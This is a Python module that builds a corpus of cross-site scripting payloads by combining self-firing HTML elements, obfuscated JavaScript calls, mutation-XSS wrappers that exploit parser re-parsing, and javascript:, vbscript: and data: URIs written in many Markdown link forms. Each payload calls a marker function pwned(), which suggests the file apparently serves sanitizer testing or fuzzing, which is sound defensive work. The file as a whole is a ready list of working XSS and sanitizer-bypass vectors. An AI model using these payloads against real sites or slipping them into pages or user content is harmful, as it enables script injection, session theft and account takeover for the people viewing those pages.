"""Texts that would run a script in an app that took them for HTML.

Made by combining what such texts are made of: an element that can run something, an event that
fires without a click, a way to write the call, and a place where a parser may change its mind.
Each calls `pwned()` if it ever runs.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALLS = ("pwned()", "pwned&#40;&#41;", "top['pwn'+'ed']()", "pwned``", "setTimeout('pwned()')")

# Elements whose event fires by itself once they stand in a document.
LOADING = (
    "<img src=x onerror={}>",
    "<img src=x onerror='{}' alt='",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<iframe onload={}>",
    '<iframe srcdoc="<script>parent.{}</script>">',
    "<iframe src='javascript:parent.{}'>",
    "<video src=x onerror={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<object data=x onerror={}>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<script>{}</script>",
    "<script src='data:text/javascript,{}'></script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<link rel=stylesheet href=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<marquee onstart={}>",
    "<div style=animation-name:x onanimationstart={}>",
    "<style onload={}></style>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form><button autofocus onfocus={}>",
    "<isindex action='javascript:{}' type=submit>",
)

# Where a second parse reads something else than the first one did.
FOLDS = (
    "{}",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style>{}-->",
    "<svg></p><style><a id='</style>{}'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{}'>",
    "<title><a title='</title>{}'></title>",
    "<textarea><a title='</textarea>{}'></textarea>",
    "<template>{}</template>",
    "<select><option>{}</option></select>",
    "<table><td>{}",
    "<![CDATA[{}]]>",
    "<!--{}-->",
    "--><!--><img>{}",
    "<svg><desc>{}</desc></svg>",
    "<xmp><p title='</xmp>{}'></xmp>",
)

# Addresses that are calls, in every way Markdown can write a link.
SCHEMES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "&#106;avascript:pwned()",
    "javascript&colon;pwned()",
    " javascript:pwned()",
    "\x01javascript:pwned()",
    "vbscript:pwned()",
    "data:text/html,<script>opener.pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoKTwvc2NyaXB0Pg==",
    "blob:pwned()",
    "//javascript:pwned()",
)
LINKS = (
    "[read]({})",
    "[read](<{}>)",
    "![seen]({})",
    "![a](x 'onerror=pwned()')[read]({} 'title')",
    "<{}>",
    "[read][1]\n\n[1]: {}",
    "[![a](x)]({})",
    "<a href='{}'>read</a>",
    "[a](https://x'onmouseover='pwned())[b]({})",
)


def texts() -> Iterator[str]:
    """Yield the corpus, always in the same order, no text twice."""
    yield from dict.fromkeys(_combined())


def _combined() -> Iterator[str]:
    for element, call in product(LOADING, CALLS):
        yield element.format(call)
    for fold, element in product(FOLDS, LOADING):
        yield fold.format(element.format(CALLS[0]))
    for link, scheme in product(LINKS, SCHEMES):
        yield link.format(scheme)
